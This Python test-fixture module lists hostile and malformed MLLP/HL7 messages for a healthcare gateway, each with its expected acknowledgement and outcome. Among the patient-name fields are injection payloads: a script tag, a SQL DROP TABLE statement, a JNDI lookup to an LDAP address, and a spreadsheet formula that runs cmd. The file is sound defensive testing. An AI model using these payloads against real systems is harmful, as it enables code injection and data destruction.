"""What a broken or hostile system may send over MLLP, by name, each with the answer it has to get, and what has to become of
what stands in its frame where that comes by another way. Everything is invented."""

from collections.abc import Mapping
from dataclasses import dataclass

from tests.hl7_samples import DIED, NUMBER, death, message, msh, pid, pv1
from tests.hostile_sample import Invented, Outcome
from tests.mllp_client import END, START, framed

LIMIT = 256 * 1024
"""The most bytes of a frame at the gateway that these are sent to."""


@dataclass(frozen=True)
class Hostile:
    """``wire``: the bytes as sent. ``codes``: MSA-1 of every answer in order, none for silence. ``queued``: how many bodies
    are kept. ``closes``: the connection is ended; else it is kept and serves what comes next. ``elsewhere``: what has to
    become of the frame's content by a way in that isn't MLLP, where its answer here doesn't say it."""

    wire: bytes
    codes: tuple[str, ...] = ()
    queued: int = 0
    closes: bool = False
    elsewhere: Outcome | None = None

    @property
    def content(self) -> bytes | None:
        """What would be sent by another way; None for what is about frames and connections alone."""
        inside = self.wire.removeprefix(START).removesuffix(END)
        return None if self.closes or START in inside or END in inside else inside

    @property
    def outcome(self) -> Outcome:
        """What has to become of that."""
        if self.elsewhere:
            return self.elsewhere
        if self.queued:
            return "taken"
        # Of silence nobody can tell what it means.
        assert self.codes
        return "refused" if {"AE", "AR"} & set(self.codes) else "passed-over"


def own(wire: bytes, serial: int) -> bytes:
    """The same about the ``serial``-th child and no other, under an id of its own: what is sent by one way can be told from
    what is sent by another, and nobody has to look whether hundreds of children are one."""
    who = Invented(serial)
    pieces = {
        NUMBER: who.number,
        "HARROWGATE": who.surname.upper(),
        "Ava": who.given,
        "20140509": who.born.replace("-", ""),
        "H100200": f"H{serial}",
        "|M1|": f"|M{serial}|",
        "$M1$": f"$M{serial}$",
        "|V1": f"|V{serial}",
    }
    for old, new in pieces.items():
        for charset in ("ascii", "utf-16-le"):
            wire = wire.replace(old.encode(charset), new.encode(charset))
    return wire


def _taken(body: bytes) -> Hostile:
    return Hostile(framed(body), ("AA",), 1)


def _passed(body: bytes) -> Hostile:
    return Hostile(framed(body), ("AA",))


def _wrong(body: bytes) -> Hostile:
    return Hostile(framed(body), ("AE",))


def _never(body: bytes) -> Hostile:
    return Hostile(framed(body), ("AR",))


def _silence(body: bytes, elsewhere: Outcome = "refused") -> Hostile:
    return Hostile(framed(body), elsewhere=elsewhere)


def _named(name: str) -> bytes:
    return death(f5=name)


def _marked(signs: str, separator: str = "|") -> bytes:
    """A death with other delimiters: ``signs`` is MSH-2."""
    body = death()
    for old, new in zip("^~\\&", (signs + "^~\\&"[len(signs) :])[:4], strict=True):
        body = body.replace(old.encode(), b"\x00" + new.encode())
    body = body.replace(b"\x00", b"").replace(b"|", separator.encode())
    return body.replace(b"MSH" + separator.encode() + body[4:8], b"MSH" + separator.encode() + signs.encode(), 1)


def _batch(*bodies: bytes, count: int | None = None, end: bool = True) -> bytes:
    trailer = b"BTS|%d\r" % (len(bodies) if count is None else count)
    return b"BHS|^~\\&|PAS|RTH|CDR|CDR|||||B1\r" + b"".join(bodies) + (trailer if end else b"")


_FRAMES: Mapping[str, Hostile] = {
    "nothing between the frame's bytes": Hostile(START + END, elsewhere="refused"),
    "line ends alone": Hostile(START + b"\r\n\r\n" + END, elsewhere="refused"),
    "two messages in one packet": Hostile(framed(death()) * 2, ("AA", "AA"), 2),
    "no carriage return after the end byte": Hostile(START + death() + b"\x1c", ("AA",), 1),
    "no start byte": Hostile(death() + END, elsewhere="taken"),
    "junk before the start byte": Hostile(b"zzz\r\n\x1c\x1c" + framed(death()), ("AA",), 1),
    "end bytes alone": Hostile(END * 50),
    "a message given up for another": Hostile(START + b"MSH|^~\\&|PAS|RTH" + framed(death()), ("AA",), 1),
    "a second start byte first": Hostile(START + framed(death()), ("AA",), 1),
    "a start byte inside a field": Hostile(framed(_named("HARROW\x0bGATE^Ava")), ("AE",)),
    "an end byte inside a field": _taken(_named("HARROW\x1cGATE^Ava")),
    "more than a frame may hold": Hostile(framed(death() + b"NTE|1||" + b"x" * LIMIT), ("AE",), elsewhere="taken"),
    "more than a frame may hold, of no message": _silence(b"x" * (LIMIT + 1)),
    "a web browser": Hostile(b"GET / HTTP/1.1\r\nHost: here\r\n\r\n", closes=True),
    "a web form": Hostile(b"POST /a HTTP/1.1\r\nContent-Length: 9\r\n\r\n" + framed(death()), closes=True),
    "a TLS client": Hostile(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", closes=True),
    "a shell": Hostile(b"SSH-2.0-client\r\n", closes=True),
}

_HEADERS: Mapping[str, Hostile] = {
    "words": _silence(b"the quick brown fox"),
    "every byte there is": _silence(bytes(byte for byte in range(256) if byte not in b"\x0b\x1c")),
    "zeros": _silence(b"\0" * 1000),
    "three letters": _silence(b"MSH"),
    "a header and nothing else": _never(b"MSH|^~\\&|PAS|RTH"),
    "letters as delimiters": _silence(b"MSHA" + death()[4:].replace(b"|", b"A")),
    "one sign for two delimiters": _silence(b"MSH|^^\\&|" + death()[9:]),
    "a short list of delimiters": _taken(_marked("^~")),
    "a long list of delimiters": _taken(_marked("^~\\&#")),
    "other delimiters": _taken(_marked("*%?@", "$")),
    "segments in small letters": _taken(death().replace(b"\rPID", b"\rpid").replace(b"\rPV1", b"\rpv1")),
    "a version to come": _taken(message(msh(f12="2.9.1"), pid(f29=DIED))),
    "no version": _taken(message(msh(f12=""), pid(f29=DIED))),
    "a version of another standard": _never(message(msh(f12="4.0.1"), pid(f29=DIED))),
    "no message type": _never(message(msh(""), pid(f29=DIED))),
    "a message type of signs": _never(message(msh("<!>"), pid(f29=DIED))),
    "no control id": _taken(message(msh(f10=""), pid(f29=DIED))),
    "an endless control id": _taken(message(msh(f10="9" * 5000), pid(f29=DIED))),
    "a control id that begins an answer": _taken(message(msh(f10="1\\X0D\\MSA"), pid(f29=DIED))),
    "an acknowledgement": _silence(message(msh("ACK^A03"), "MSA|AA|1"), "passed-over"),
    "a refusal": _silence(message(msh("ACK"), "MSA|AR|1"), "passed-over"),
    "nobody's sender": Hostile(framed(message(msh(f4=""), pid(f29=DIED))), ("AR",), elsewhere="taken"),
    "a stranger": _never(message(msh(f4="RZZ"), pid(f29=DIED))),
    "a sender that is a routing key": _never(message(msh(f4="RTH.#"), pid(f29=DIED))),
    "a sender of another trade": _never(message(msh(f4="E23000038"), pid(f29=DIED))),
    "a sender that asks for silence": Hostile(framed(message(msh(f15="NE", f16="NE"), pid(f29=DIED))), (), 1),
}

_TEXTS: Mapping[str, Hostile] = {
    "line feeds": _taken(death().replace(b"\r", b"\n")),
    "every kind of line end": _taken(death().replace(b"\rPID", b"\r\n\r\nPID").replace(b"\rPV1", b"\n\rPV1")),
    "a byte order mark": _taken(b"\xef\xbb\xbf" + death()),
    "sixteen bits a character": _taken(death().decode().encode("utf-16")),
    "a character set that isn't the declared one": _taken(
        message(msh(f18="UNICODE UTF-8"), pid(f5="S\N{LATIN CAPITAL LETTER O WITH DIAERESIS}DER", f29=DIED))
        .decode()
        .encode("latin-1")
    ),
    "a character set that nobody knows": _taken(message(msh(f18="KLINGON"), pid(f29=DIED))),
    "bytes that are no UTF-8": _taken(death().replace(b"HARROWGATE", b"\xff\xfe\xf5\xc0\x80")),
    "a zero in a name": _taken(_named("HARROW\0GATE")),
    "a name that is a program": _taken(_named("<script>alert(1)</script>")),
    "a name that is a statement": _taken(_named("'); DROP TABLE notice;--")),
    "a name that is a lookup": _taken(_named("${jndi:ldap://192.0.2.1/a}")),
    "a name that is a formula": _taken(_named("=cmd|' /C calc'!A0".replace("|", "\\F\\"))),
    "a name that breaks lines": _taken(_named("A\\X0D0A\\PID\\X0D\\\\.br\\B")),
    "a name of escapes": _taken(_named("\\" * 50_000)),
    "an unfinished escape": _taken(_named("HARROW\\X4")),
    "a name that turns the text around": _taken(_named("\u202eetagworraH\u2066")),
}

_SIZES: Mapping[str, Hostile] = {
    "ten thousand segments and more": _wrong(death() + b"NK1|1\r" * 10_001),
    "a name of two hundred thousand letters": _taken(_named("A" * 200_000)),
    "fifty thousand identifiers": _taken(death(f3="~".join(["1^^^RTH^PI"] * 10_000))),
    "fifty thousand components": _taken(_named("^" * 50_000)),
    "fifty thousand fields": _taken(message(msh(), pid(f29=DIED) + "|" * 50_000 + "20260309")),
    "a date of ten thousand digits": _taken(death(f29="2" * 10_000)),
    "two hundred people": _taken(
        message(
            msh(),
            *[pid(f3=f"{each}^^^RTH^PI", f7="19500101", f29=DIED, f30="Y") for each in range(199)],
            pid(f29=DIED, f30="Y"),
        )
    ),
    "two thousand people": _wrong(message(msh(), *[pid(f29=DIED, f30="Y")] * 2000)),
}

_CONTENTS: Mapping[str, Hostile] = {
    "nobody": _wrong(message(msh(), pv1(f36="4"))),
    "an empty patient": _passed(message(msh(), "PID|1")),
    "a death to come": _wrong(death(f29="21260309")),
    "a day that is none": _wrong(message(msh(), pid(f29="20260230"))),
    "a code that is in no table": _wrong(message(msh(), pid(f30="PERHAPS"))),
    "another country's code": _wrong(message(msh(), pid(), pv1(f36="20"))),
    "a number that fails its check": _taken(death(f3="9991000004^^^NHS^NH")),
    "a number of one digit": _taken(death(f3="0000000000^^^NHS^NH")),
    "a merge into nobody": _wrong(message(msh("ADT^A40"), pid())),
    "an adult": _passed(death(f7="19500101")),
    "a date beside an N": _taken(death(f30="N")),
}

_BATCHES: Mapping[str, Hostile] = {
    "a batch": Hostile(framed(_batch(death(), death())), ("AA", "AA", "AA"), 1),
    "a batch that counts wrong": Hostile(framed(_batch(death(), count=3)), ("AE", "AA"), 1),
    "a batch without an end": Hostile(framed(_batch(death(), end=False)), ("AE", "AA"), 1),
    "a batch that is cut": Hostile(framed(_batch(death(), death()[:-30], end=False)), ("AE", "AA", "AE"), 1),
    "a batch of nothing": _wrong(_batch()),
    "a batch of good and bad": Hostile(framed(_batch(death(), message(msh(), pv1()))), ("AE", "AA", "AE"), 1),
    "a batch with a stranger in it": Hostile(framed(_batch(death(), death().replace(b"|RTH|", b"|RXH|"))), ("AR",)),
    "trailers alone": _silence(b"BTS|1\rFTS|1\r"),
    "a file that counts a billion": Hostile(
        framed(b"FHS|^~\\&|PAS|RTH\r" + _batch(death(), count=10**9) + b"FTS|" + b"9" * 500 + b"\r"), ("AE", "AA"), 1
    ),
}

HOSTILE: Mapping[str, Hostile] = {**_FRAMES, **_HEADERS, **_TEXTS, **_SIZES, **_CONTENTS, **_BATCHES}
